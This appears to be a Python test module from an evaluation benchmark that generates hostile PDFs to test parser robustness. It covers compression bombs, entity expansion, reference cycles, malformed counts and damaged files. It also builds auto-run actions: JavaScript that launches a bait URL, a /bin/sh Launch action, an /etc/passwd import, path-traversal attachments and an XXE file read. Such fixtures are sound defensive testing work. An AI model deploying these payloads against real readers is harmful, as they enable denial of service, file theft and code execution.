"""Hostile PDFs: bombs, cycles, wrong counts, huge pages and images, damaged files."""

from __future__ import annotations

import io
import zlib
from collections.abc import Iterator, Mapping

from evals.bench.hostile_file import Bait, Hostile, damaged

_CATALOGUE = b"<</Type/Catalog/Pages 2 0 R>>"
_PAGES = b"<</Type/Pages/Kids[3 0 R]/Count 1>>"
_FONT = b"/Resources<</Font<</F1<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>>>>>"
_PAGE = b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 600 800]/Contents 4 0 R" + _FONT + b">>"
_TEXT = b"BT /F1 12 Tf 72 700 Td (Kommunstyrelsen beslutar att anta budgeten.) Tj ET"


def pdf(objects: Mapping[int, bytes], trailer: bytes = b"", prefix: bytes = b"%PDF-1.7\n") -> bytes:
    """Return a file of objects, those not given being of a page with a line of text."""
    whole = {1: _CATALOGUE, 2: _PAGES, 3: _PAGE, 4: stream(_TEXT)} | dict(objects)
    out = bytearray(prefix)
    places: dict[int, int] = {}
    for number, body in whole.items():
        places[number] = len(out)
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    table = len(out)
    size = max(places) + 1
    out += b"xref\n0 %d\n0000000000 65535 f \n" % size
    for number in range(1, size):
        out += b"%010d 00000 %s \n" % (places.get(number, 0), b"n" if number in places else b"f")
    out += b"trailer<</Size %d/Root 1 0 R%s>>\nstartxref\n%d\n%%%%EOF" % (size, trailer, table)
    return bytes(out)


def stream(content: bytes, entries: bytes = b"", *, packed: bool = False) -> bytes:
    """Return a stream object's body."""
    if packed:
        content, entries = zlib.compress(content, 9), entries + b"/Filter/FlateDecode"
    return b"<</Length %d%s>>stream\n%s\nendstream" % (len(content), entries, content)


def bomb(megabytes: int, unit: bytes = b" ", layers: int = 1) -> bytes:
    """Return ``megabytes`` of a repeated unit, deflated ``layers`` times."""
    block = (unit * (1_000_000 // len(unit) + 1))[:1_000_000]
    packer = zlib.compressobj(9, wbits=-15)
    part = packer.compress(block) + packer.flush(zlib.Z_FULL_FLUSH)  # alike every time
    check = 1
    for _ in range(megabytes):
        check = zlib.adler32(block, check)
    data = b"\x78\xda" + part * megabytes + packer.flush() + check.to_bytes(4, "big")
    for _ in range(layers - 1):
        data = zlib.compress(data, 9)
    return data


def files(bait: Bait) -> Iterator[Hostile]:
    """Yield all of them, the same on every run."""
    for kind, made in (
        ("packbomb", _bombs), ("kretsar", _cycles), ("fel antal", _counts),
        ("mycket av något", _plenty), ("bilder", _images), ("inbäddat", lambda: _embedded(bait)),
        ("osedda tecken", _characters), ("struktur", _structure),
    ):  # fmt: skip
        for name, data in made():
            yield Hostile(f"{name}.pdf", kind, data)
    whole = pdf({}) + b"\n"
    rich = _sample()
    yield from damaged("fil.pdf", whole, flips=10, cuts=6)
    yield from damaged("rapport.pdf", rich, flips=60, cuts=10)


Named = Iterator[tuple[str, bytes]]


def _bombs() -> Named:
    for layers in (1, 2, 3):
        filters = b"/Filter[" + b"/FlateDecode" * layers + b"]"
        yield f"innehall-{layers}", pdf({4: stream(bomb(600, b" ", layers), filters)})
    yield "text", pdf({4: stream(bomb(60, b"BT /F1 9 Tf (a) Tj ET "), b"/Filter/FlateDecode")})
    yield "streck", pdf({4: stream(bomb(60, b"0 0 m 9 9 l S "), b"/Filter/FlateDecode")})
    yield "sparade-lagen", pdf({4: stream(bomb(60, b"q "), b"/Filter/FlateDecode")})
    run = stream(b"\x81 " * 3_000_000 + b"\x80", b"/Filter/RunLengthDecode")
    yield "upprepning", pdf({4: run})
    hexed = bomb(100).hex().encode() + b">"
    yield "hex-och-deflate", pdf({4: stream(hexed, b"/Filter[/ASCIIHexDecode/FlateDecode]")})
    yield "hundra-filter", pdf({4: stream(bomb(1), b"/Filter[" + b"/FlateDecode" * 100 + b"]")})
    predictor = b"/Filter/FlateDecode/DecodeParms<</Predictor 15/Columns 2000000000/Colors 32>>"
    yield "predictor", pdf({4: stream(bomb(2), predictor)})
    inside = b"10 0 " + b" " * 10
    entries = b"/Type/ObjStm/N 1/First 5/Filter/FlateDecode"
    yield "objektstrom", pdf({9: stream(bomb(600, inside), entries)})
    yield "objektstrom-bruten", _with_xref_stream(bomb(600), entries)
    yield (
        "objektstrom-antal",
        _with_xref_stream(
            zlib.compress(b"10 0 (a)"), b"/Type/ObjStm/N 2000000000/First 5/Filter/FlateDecode"
        ),
    )
    cmap = (
        b"/CIDInit /ProcSet findresource begin begincmap 1 begincodespacerange <00> <FF> "
        b"endcodespacerange 1 beginbfrange <00> <FF> <"
        + b"0041" * 500
        + b"> endbfrange endcmap end"
    )
    font = b"<</Type/Font/Subtype/Type1/BaseFont/Helvetica/ToUnicode 6 0 R>>"
    many = b"BT /F1 9 Tf 9 9 Td (" + b"a" * 200_000 + b") Tj ET"
    page = _PAGE.replace(b"<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>", b"5 0 R")
    yield "teckentabell", pdf({3: page, 4: stream(many), 5: font, 6: stream(cmap)})
    entity = _entities()
    yield (
        "xmp-enheter",
        pdf(
            {
                1: _CATALOGUE[:-2] + b"/Metadata 5 0 R>>",
                5: stream(entity, b"/Type/Metadata/Subtype/XML"),
            }
        ),
    )
    yield (
        "xfa-enheter",
        pdf({1: _CATALOGUE[:-2] + b"/AcroForm<</XFA 5 0 R/Fields[]>>>>", 5: stream(entity)}),
    )


def _entities() -> bytes:
    rows = [b'<!ENTITY a0 "ha">']
    rows += [b'<!ENTITY a%d "%s">' % (i, b"&a%d;" % (i - 1) * 10) for i in range(1, 10)]
    return b"<?xml version='1.0'?><!DOCTYPE x [" + b"".join(rows) + b"]><x>&a9;</x>"


def _with_xref_stream(packed: bytes, entries: bytes) -> bytes:
    """Return a file whose catalogue stands in an object stream of ``packed`` bytes."""
    out = bytearray(b"%PDF-1.7\n")
    first = len(out)
    out += b"2 0 obj\n" + stream(packed, entries) + b"\nendobj\n"
    table = len(out)
    rows = b"".join(
        kind.to_bytes(1, "big") + place.to_bytes(4, "big") + b"\0"
        for kind, place in ((0, 0), (2, 2), (1, first), (1, table))
    )
    body = stream(rows, b"/Type/XRef/Size 4/W[1 4 1]/Root 1 0 R")
    out += b"3 0 obj\n" + body + b"\nendobj\nstartxref\n%d\n%%%%EOF" % table
    return bytes(out)


def _cycles() -> Named:
    yield "sidtrad-sig-sjalv", pdf({2: b"<</Type/Pages/Kids[2 0 R 3 0 R]/Count 2>>"})
    yield (
        "sidtrad-foralder",
        pdf({2: b"<</Type/Pages/Kids[5 0 R]/Count 1>>", 5: b"<</Type/Pages/Kids[2 0 R]/Count 1>>"}),
    )
    yield "sida-som-forfader", pdf({3: b"<</Type/Page/Parent 3 0 R/Contents 4 0 R>>"})
    deep = {i: b"<</Type/Pages/Kids[%d 0 R]/Count 1/Parent %d 0 R>>" % (i + 1, i - 1)
            for i in range(5, 5005)}  # fmt: skip
    yield "sidtrad-djupt", pdf({2: b"<</Type/Pages/Kids[5 0 R]/Count 1>>", **deep, 5005: _PAGE})
    wide = {i: b"<</Type/Pages/Kids[%s]/Count 999999>>" % (b"%d 0 R " % (i + 1) * 10)
            for i in range(5, 15)}  # fmt: skip
    yield (
        "sidtrad-tio-upphojt",
        pdf({2: b"<</Type/Pages/Kids[5 0 R]/Count 999999>>", **wide, 15: _PAGE}),
    )
    yield "katalog-ar-sidtrad", pdf({1: b"<</Type/Catalog/Pages 1 0 R/Kids[1 0 R]/Count 1>>"})
    outline = b"<</Type/Outlines/First 5 0 R/Last 5 0 R/Count 1>>"
    item = (
        b"<</Title(a)/Parent 5 0 R/Next 6 0 R/Prev 6 0 R/First 6 0 R/Last 6 0 R/Dest[3 0 R/Fit]>>"
    )
    yield (
        "innehallsforteckning",
        pdf({1: _CATALOGUE[:-2] + b"/Outlines 5 0 R>>", 5: outline, 6: item}),
    )
    field = b"<</T(a)/Parent 5 0 R/Kids[5 0 R 5 0 R]/FT/Tx>>"
    yield "formular", pdf({1: _CATALOGUE[:-2] + b"/AcroForm<</Fields[5 0 R]>>>>", 5: field})
    names = b"<</Kids[5 0 R]/Names[(a)3 0 R]/Limits[(a)(b)]>>"
    yield "namntrad", pdf({1: _CATALOGUE[:-2] + b"/Names<</Dests 5 0 R>>>>", 5: names})
    labels = b"<</Kids[5 0 R]>>"
    yield "sidetiketter", pdf({1: _CATALOGUE[:-2] + b"/PageLabels 5 0 R>>", 5: labels})
    form = b"/Type/XObject/Subtype/Form/BBox[0 0 9 9]/Resources<</XObject<</X 5 0 R>>>>"
    page = _PAGE.replace(b"/Resources<<", b"/Resources<</XObject<</X 5 0 R>>")
    yield (
        "formobjekt-sig-sjalv",
        pdf({3: page, 4: stream(b"/X Do"), 5: stream(b"/X Do /X Do", form)}),
    )
    power = {
        i: stream(
            b"/X Do " * 10,
            b"/Type/XObject/Subtype/Form/BBox[0 0 9 9]/Resources<</XObject<</X %d 0 R>>>>"
            % (i + 1),
        )
        for i in range(5, 14)
    }
    last = stream(_TEXT, b"/Type/XObject/Subtype/Form/BBox[0 0 9 9]" + _FONT)
    yield "formobjekt-tio-upphojt", pdf({3: page, 4: stream(b"/X Do"), **power, 14: last})
    glyph = b"<</Type/Font/Subtype/Type3/FontBBox[0 0 9 9]/FontMatrix[1 0 0 1 0 0]/FirstChar 97"
    glyph += b"/LastChar 97/Widths[9]/Encoding<</Differences[97/a]>>/CharProcs<</a 6 0 R>>"
    glyph += b"/Resources<</Font<</F1 5 0 R>>>>>>"
    drawn = stream(b"BT /F1 9 Tf (aaaa) Tj ET")
    own = _PAGE.replace(b"<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>", b"5 0 R")
    yield "typsnitt-sig-sjalvt", pdf({3: own, 4: drawn, 5: glyph, 6: drawn})
    yield "langd-ar-sig-sjalv", pdf({4: b"<</Length 4 0 R>>stream\nx\nendstream"})
    yield "innehall-i-krets", pdf({3: _PAGE.replace(b"4 0 R", b"5 0 R"), 5: b"[5 0 R 5 0 R 4 0 R]"})
    yield "pekare-till-sig-sjalv", pdf({3: b"3 0 R"})
    yield "xref-prev-sig-sjalv", _prev(b"/Prev %d")
    yield "xref-strom-sig-sjalv", _prev(b"/XRefStm %d")
    yield "kryptering-i-krets", pdf({5: b"5 0 R"}, b"/Encrypt 5 0 R/ID[(a)(b)]")
    yield "info-i-krets", pdf({5: b"<</Title 5 0 R>>"}, b"/Info 5 0 R")


def _prev(entry: bytes) -> bytes:
    whole = pdf({})
    table = whole.index(b"xref\n0 ")
    return whole.replace(b"/Root 1 0 R", b"/Root 1 0 R" + entry % table)


def _counts() -> Named:
    for count in (b"0", b"-1", b"2", b"100000", b"2147483648", b"99999999999999999999", b"1.5",
                  b"(1)", b"null"):  # fmt: skip
        name = count.decode().strip("()")
        yield f"sidor-{name}", pdf({2: b"<</Type/Pages/Kids[3 0 R]/Count %s>>" % count})
    for kids in (b"[]", b"[null 3 0 R]", b"[7 0 R 3 0 R]", b"3 0 R", b"[3 0 R 3 0 R 3 0 R]",
                 b"[4 0 R]", b"[[3 0 R]]", b"(x)"):  # fmt: skip
        name = kids.decode().translate(str.maketrans("[] ()", "abcde"))
        yield f"barn-{name}", pdf({2: b"<</Type/Pages/Kids%s/Count 1>>" % kids})
    for length in (b"0", b"5", b"99999999", b"-1", b"7 0 R", b"null"):
        body = b"<</Length %s>>stream\n%s\nendstream" % (length, _TEXT)
        yield f"langd-{length.decode().replace(' ', '')}", pdf({4: body})
    whole = pdf({})
    for size in (b"0", b"2", b"99999999", b"-3"):
        yield f"storlek-{size.decode()}", whole.replace(b"/Size 5", b"/Size " + size)
    for place in (b"0", b"99999999", b"-1", b"12"):
        at = whole.rindex(b"startxref\n") + 10
        yield f"startxref-{place.decode()}", whole[:at] + place + b"\n%%EOF"
    wide = stream(b"\0" * 40, b"/Type/XRef/Size 100000000/Index[0 100000000]/W[1 8 8]/Root 1 0 R")
    at = len(whole)
    yield (
        "xref-strom-bred",
        whole + b"\n9 0 obj\n%s\nendobj\nstartxref\n%d\n%%%%EOF" % (wide, at + 1),
    )


def _plenty() -> Named:
    shared = b"<</Type/Pages/Kids[" + b"3 0 R " * 100_000 + b"]/Count 100000>>"
    yield "hundratusen-delade-sidor", pdf({2: shared})
    own = {i: _PAGE for i in range(10, 100_010)}
    kids = b" ".join(b"%d 0 R" % i for i in own)
    yield "hundratusen-sidor", pdf({2: b"<</Type/Pages/Kids[%s]/Count 100000>>" % kids, **own})
    few = {i: _PAGE for i in range(10, 2010)}
    kids = b" ".join(b"%d 0 R" % i for i in few)
    yield "tvatusen-sidor", pdf({2: b"<</Type/Pages/Kids[%s]/Count 2000>>" % kids, **few})
    yield "miljon-tecken", pdf({4: stream(b"BT /F1 1 Tf 9 9 Td (" + b"a" * 1_000_000 + b") Tj ET")})
    words = b"BT /F1 1 Tf 9 9 Td " + b"(ett tva 3 ) Tj 0 -1 Td " * 60_000 + b"ET"
    yield "sextiotusen-rader", pdf({4: stream(words, packed=True)})
    rules = b"".join(b"0 %d m 600 %d l S %d 0 m %d 800 l S\n" % (i, i, i, i) for i in range(600))
    yield "rutnat", pdf({4: stream(rules + _TEXT, packed=True)})
    dense = b"".join(
        b"0 %d.%d m 600 %d.%d l S %d.%d 0 m %d.%d 800 l S\n" % ((i // 9, i % 9) * 4)
        for i in range(5400)
    )
    yield "tatt-rutnat", pdf({4: stream(dense + words[:60_000] + b" ET", packed=True)})
    yield "lang-titel", pdf({5: b"<</Title(" + b"a" * 5_000_000 + b")>>"}, b"/Info 5 0 R")
    roman = b"/PageLabels<</Nums[0<</S/r/St 2000000000>>]>>>>"
    yield "romersk-etikett", pdf({1: _CATALOGUE[:-2] + roman})
    letters = b"/PageLabels<</Nums[0<</S/a/St 2000000000>>]>>>>"
    yield "bokstavsetikett", pdf({1: _CATALOGUE[:-2] + letters})
    prefix = b"/PageLabels<</Nums[0<</P(" + b"x" * 3_000_000 + b")>>]>>>>"
    yield "lang-etikett", pdf({1: _CATALOGUE[:-2] + prefix, 2: shared.replace(b"100000", b"4000")
                               .replace(b"3 0 R " * 100_000, b"3 0 R " * 4000)})  # fmt: skip
    notes = {
        i: b"<</Type/Annot/Subtype/Text/Rect[0 0 9 9]/Contents(a)>>" for i in range(10, 50_010)
    }
    annots = b"/Annots[" + b" ".join(b"%d 0 R" % i for i in notes) + b"]>>"
    yield "femtiotusen-noteringar", pdf({3: _PAGE[:-2] + annots, **notes})
    yield "tusen-innehall", pdf({3: _PAGE.replace(b"4 0 R", b"[" + b"4 0 R " * 20_000 + b"]")})


def _images() -> Named:
    page = _PAGE.replace(b"/Resources<<", b"/Resources<</XObject<</X 5 0 R>>")
    show = stream(b"q 600 0 0 800 0 0 cm /X Do Q")
    for name, width, height, colour, bits in (
        ("svartvit", 100_000, 100_000, b"/DeviceGray", 1),
        ("farg", 30_000, 30_000, b"/DeviceRGB", 8),
        ("sextonbitars", 60_000, 60_000, b"/DeviceCMYK", 16),
        ("en-rad", 2_000_000_000, 1, b"/DeviceGray", 8),
        ("negativ", -5, 70_000, b"/DeviceGray", 8),
    ):
        entries = b"/Type/XObject/Subtype/Image/Width %d/Height %d/ColorSpace%s" % (
            width, height, colour,
        )  # fmt: skip
        entries += b"/BitsPerComponent %d/Filter/FlateDecode" % bits
        yield f"bild-{name}", pdf({3: page, 4: show, 5: stream(bomb(100, b"\0"), entries)})
    for kind in (b"JPXDecode", b"DCTDecode", b"JBIG2Decode", b"CCITTFaxDecode"):
        entries = b"/Type/XObject/Subtype/Image/Width 20000/Height 20000/ColorSpace/DeviceGray"
        entries += b"/BitsPerComponent 8/Filter/" + kind
        body = stream(b"\xff\xd8\xff\xe0" + b"\0\x11" * 5000, entries)
        yield f"bild-{kind.decode().lower()}", pdf({3: page, 4: show, 5: body})
    mask = b"/Type/XObject/Subtype/Image/Width 9/Height 9/ColorSpace/DeviceGray/BitsPerComponent 8"
    yield "mask-i-krets", pdf({3: page, 4: show, 5: stream(b"\0" * 81, mask + b"/SMask 5 0 R")})
    for name, box in (
        ("enorm", b"0 0 1000000000 1000000000"), ("noll", b"0 0 0 0"), ("omvand", b"600 800 0 0"),
        ("minimal", b"0 0 0.0001 0.0001"), ("text", b"(a) (b) 5 6"), ("kort", b"0 0"),
        ("overflod", b"0 0 9e99 9e99"), ("smal", b"0 0 1 9000000"),
    ):  # fmt: skip
        changed = _PAGE.replace(b"0 0 600 800", box)
        yield f"sida-{name}", pdf({3: changed})
        yield f"sida-{name}-skannad", pdf({3: page.replace(b"0 0 600 800", box), 4: show,
                                           5: stream(b"\0" * 81, mask)})  # fmt: skip
    yield "sida-enhet", pdf({3: _PAGE[:-2] + b"/UserUnit 1000000>>"})
    yield "sida-vriden", pdf({3: _PAGE[:-2] + b"/Rotate 45>>"})


def _embedded(bait: Bait) -> Named:
    address, canary = bait.address.encode(), bait.file.encode()
    for name, action in (
        ("skript", b"<</S/JavaScript/JS(app.launchURL\\('%s'\\))>>" % address),
        ("starta", b"<</S/Launch/F(/bin/sh)>>"),
        ("lank", b"<</S/URI/URI(%s)>>" % address),
        ("annan-fil", b"<</S/GoToR/F(%s)/D[0/Fit]>>" % address),
        ("skicka-formular", b"<</S/SubmitForm/F<</FS/URL/F(%s)>>>>" % address),
        ("hamta-data", b"<</S/ImportData/F(/etc/passwd)>>"),
    ):
        yield name, pdf({1: _CATALOGUE[:-2] + b"/OpenAction 5 0 R>>", 5: action})
    file = b"<</Type/Filespec/F(../../../../tmp/x.exe)/EF<</F 6 0 R>>>>"
    names = b"/Names<</EmbeddedFiles<</Names[(../../x)5 0 R]>>>>>>"
    yield "bilaga", pdf({1: _CATALOGUE[:-2] + names, 5: file, 6: stream(b"MZ" + b"\0" * 99)})
    bombed = stream(bomb(300), b"/Type/EmbeddedFile/Filter/FlateDecode")
    yield "bilaga-bomb", pdf({1: _CATALOGUE[:-2] + names, 5: file, 6: bombed})
    outside = b"<</Length 0/F(%s)/FFilter/FlateDecode>>stream\n\nendstream" % canary
    yield "innehall-i-annan-fil", pdf({4: outside})
    entity = b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file://%s">]><x>&e;</x>'
    yield "xfa-annan-fil", pdf(
        {1: _CATALOGUE[:-2] + b"/AcroForm<</XFA 5 0 R/Fields[]>>>>",
         5: stream(entity % canary)}
    )  # fmt: skip
    yield "zip-efter", pdf({}) + b"\nPK\x03\x04" + b"\0" * 900 + b"\n%%EOF"
    yield "html-fore", pdf({}, prefix=b"<html><script>alert(1)</script></html>\n%PDF-1.7\n")


def _characters() -> Named:
    for name, text in (
        ("styrtecken", b"BESLUT \\033[2J\\033]0;x\\007 \\000\\001 att avsl\\345"),
        ("radslut", b"a\\013b\\014c\\034d\\205e"),
    ):
        yield name, pdf({4: stream(b"BT /F1 12 Tf 72 700 Td (" + text + b") Tj ET")})
    cmap = (
        b"/CIDInit /ProcSet findresource begin begincmap 1 begincodespacerange <00> <FF> "
        b"endcodespacerange 6 beginbfchar <61> <202E> <62> <2066> <63> <D800> <64> <0000> "
        b"<65> <200F> <66> <FFFE> endbfchar endcmap end"
    )
    font = b"<</Type/Font/Subtype/Type1/BaseFont/Helvetica/ToUnicode 6 0 R>>"
    page = _PAGE.replace(b"<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>", b"5 0 R")
    for name, text in (
        ("riktning", b"BESLUT a avslas e budget"), ("surrogat", b"cc BESLUT c c"),
        ("noll", b"ddd BESLUT d"), ("bindestreck", b"ffff"), ("bara-osedda", b"abcdef"),
    ):  # fmt: skip
        drawn = stream(b"BT /F1 12 Tf 72 700 Td (" + text + b") Tj ET")
        yield name, pdf({3: page, 4: drawn, 5: font, 6: stream(cmap)})
    title = b"<</Title<FEFF202E00660064007000000007001B>/CreationDate(D:99999999999999)>>"
    yield "titel", pdf({5: title}, b"/Info 5 0 R")


def _structure() -> Named:
    for name, body in (
        ("listor-i-listor", b"[" * 100_000 + b"]" * 100_000), ("oppna-listor", b"[" * 100_000),
        ("lexikon-i-lexikon", b"<</A" * 50_000 + b" 1" + b">>" * 50_000),
        ("oppen-strang", b"(" + b"(" * 100_000), ("langt-namn", b"/" + b"a" * 1_000_000),
        ("stort-tal", b"9" * 100_000), ("okant", b"xyz" * 1000), ("tom", b""),
    ):  # fmt: skip
        yield f"objekt-{name}", pdf({5: body, 3: _PAGE[:-2] + b"/X 5 0 R>>"})
        yield f"sidan-{name}", pdf({3: body})
    yield "bara-huvud", b"%PDF-1.7\n%%EOF"
    yield "utan-xref", pdf({}).split(b"xref\n0 ")[0] + b"%%EOF"
    yield "utan-katalog", pdf({1: b"<</Type/Nothing>>"})
    yield "okand-kryptering", pdf({5: b"<</Filter/X/V 99/R 99/O(a)/U(b)/P 1>>"}, b"/Encrypt 5 0 R")
    yield "trasig-kryptering", pdf({5: b"<</Filter/Standard/V 5/R 6>>"}, b"/Encrypt 5 0 R/ID[]")
    yield "linjar", pdf({9: b"<</Linearized 1/L 99999999>>"})
    for name, text in (
        ("oandligt", b"BT /F1 1e38 Tf 1e38 -1e38 Td (abc) Tj ET"),
        ("nollmatris", b"BT /F1 12 Tf 0 0 0 0 0 0 Tm (abc) Tj ET"),
        ("negativ-storlek", b"BT /F1 -12 Tf 72 700 Td (abc) Tj ET"),
        ("oppen-text", b"BT /F1 12 Tf (abc"),
        ("skrap", bytes(range(256)) * 400),
    ):
        yield f"innehall-{name}", pdf({4: stream(text)})


def _sample() -> bytes:
    """Return a report of several pages with a table, made as office programs make them."""
    from reportlab.lib import colors
    from reportlab.lib.styles import getSampleStyleSheet
    from reportlab.platypus import Paragraph, SimpleDocTemplate, Table

    style = getSampleStyleSheet()["Normal"]
    out = io.BytesIO()
    table = Table(
        [["Mått", "2023", "2024"], ["Kostnad", "1 200", "1 310"], ["Andel", "4 %", "5 %"]]
    )
    table.setStyle([("GRID", (0, 0), (-1, -1), 0.5, colors.black)])
    story = [
        Paragraph(f"§ {i} Kommunstyrelsen beslutar att anta del {i}.", style) for i in range(90)
    ]
    SimpleDocTemplate(out, invariant=1, title="Rapport").build([*story, table])
    return out.getvalue()
